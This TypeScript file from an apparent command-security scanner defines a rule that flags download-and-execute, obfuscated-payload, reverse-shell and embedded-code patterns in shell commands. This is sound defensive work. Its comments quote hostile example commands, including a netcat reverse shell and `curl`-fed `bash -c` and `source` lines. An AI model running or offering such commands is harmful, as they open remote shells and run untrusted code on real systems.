import { programName } from '../shell/command-views.js';
import {
  inlineCode,
  interpreterFamily,
  isCodeInterpreter,
  isShell,
  readsCodeFromStdin,
  shellCommandString,
} from '../shell/interpreters.js';
import { DECODERS, DOWNLOADERS, RAW_NETWORK_CLIENTS } from '../shell/program-sets.js';
import type { ShellCommand, ShellWord } from '../shell/shell-ir.js';
import { stdinText } from '../shell/stdin-text.js';
import { type CommandRule, type Finding, finding } from './rule.js';
import { recordWrites, writtenScriptFindings } from './written-scripts.js';

const nameOf = (command: ShellCommand): string => programName(command.words[0]?.value ?? '');
const anyNamed = (commands: readonly ShellCommand[], names: ReadonlySet<string>): ShellCommand | undefined =>
  commands.find((c) => names.has(nameOf(c)));
const substitutionsOf = (words: readonly ShellWord[]): ShellCommand[] =>
  words.flatMap((w) => w.substitutions);

/**
 * Code that runs code: a shell or interpreter fed a download, a decoded payload or a raw socket; and the
 * strings a command runs as code (`bash -c`, `eval`, `su -c`, `python -c`...), rated one level deeper.
 */
export const codeExecutionRule: CommandRule = (view, context) => {
  const findings: Finding[] = [];
  const { command } = view;
  const [nameWord] = view.words;

  // `$(curl x)` as a command name runs whatever the server sends.
  if (nameWord?.dynamic === true) {
    const fetched = anyNamed(nameWord.substitutions, DOWNLOADERS);
    findings.push(
      fetched === undefined
        ? finding('dynamic-command', 'UNKNOWN', nameWord.raw)
        : finding('download-exec', 'HIGH', command.raw),
    );
  }

  const script =
    view.name === 'eval' ? view.args.join(' ') : (shellCommandString(view) ?? suCommandString(view));
  if (script !== undefined) findings.push(...context.rateEmbedded(script));

  const inline = inlineCode(view);
  if (inline !== undefined) findings.push(...context.rateCode(inline.code, inline.language));

  const runsCode =
    isCodeInterpreter(view.name) || view.name === 'eval' || view.name === 'source' || view.name === '.';
  if (runsCode) {
    // `bash -c "$(curl x)"`, `python -c "$(echo .. | base64 -d)"`, `source <(curl x)`, `sh < <(wget -O- x)`.
    const fed = [...substitutionsOf(view.words.slice(1)), ...substitutionsOf(redirectWords(command))];
    const fetched = anyNamed(fed, DOWNLOADERS);
    if (fetched !== undefined) findings.push(finding('download-exec', 'HIGH', command.raw));
    const decoded = anyNamed(fed, DECODERS);
    if (decoded !== undefined) findings.push(finding('obfuscated-exec', 'HIGH', command.raw));
  }

  if (readsCodeFromStdin(view)) findings.push(...stdinCodeFindings(view.name, command, context));

  if (isShell(view.name)) {
    // `sh -i 2>&1 | nc host 4444 > /tmp/f`: a shell whose output goes to a socket is a reverse shell.
    const socket = anyNamed(command.pipedTo.flat(), RAW_NETWORK_CLIENTS);
    if (socket !== undefined)
      findings.push(finding('reverse-shell', 'HIGH', `${command.raw} | ${socket.raw}`));
  }

  findings.push(...writtenScriptFindings(view, runsCode, context));
  recordWrites(view, context.writtenFiles);
  return findings;
};

function stdinCodeFindings(
  name: string,
  command: ShellCommand,
  context: Parameters<CommandRule>[1],
): Finding[] {
  const findings: Finding[] = [];
  const upstream = command.pipedFrom.flat();
  const fetched = anyNamed(upstream, DOWNLOADERS);
  if (fetched !== undefined)
    findings.push(finding('download-exec', 'HIGH', `${fetched.raw} | ${command.raw}`));
  const socket = anyNamed(upstream, RAW_NETWORK_CLIENTS);
  if (socket !== undefined) findings.push(finding('reverse-shell', 'HIGH', `${socket.raw} | ${command.raw}`));
  const decoder = anyNamed(upstream, DECODERS) ?? upstream.find(isEscapedEcho);
  if (decoder !== undefined)
    findings.push(finding('obfuscated-exec', 'HIGH', `${decoder.raw} | ${command.raw}`));
  const text = stdinText(command);
  if (text !== undefined) {
    findings.push(
      ...(isShell(name) || name === 'source' || name === '.'
        ? context.rateEmbedded(text)
        : context.rateCode(text, interpreterFamily(name))),
    );
  }
  return findings;
}

/** `echo -e '\x63\x75...'` and `printf '\143...'` spell code in escapes. */
function isEscapedEcho(command: ShellCommand): boolean {
  const name = nameOf(command);
  if (name !== 'echo' && name !== 'printf') return false;
  return command.words.some((w) => /\\(x[0-9a-f]{2}|[0-7]{3})/i.test(w.raw));
}

function redirectWords(command: ShellCommand): ShellWord[] {
  return command.redirects.flatMap((r) => (r.target === undefined ? [] : [r.target]));
}

/** `su -c 'cmd' user` and `su user -c 'cmd'`. */
function suCommandString(view: Parameters<CommandRule>[0]): string | undefined {
  if (view.name !== 'su' && view.name !== 'runuser' && view.name !== 'sg') return undefined;
  const index = view.args.findIndex((a) => a === '-c' || a === '--command');
  return index < 0 ? undefined : view.args[index + 1];
}
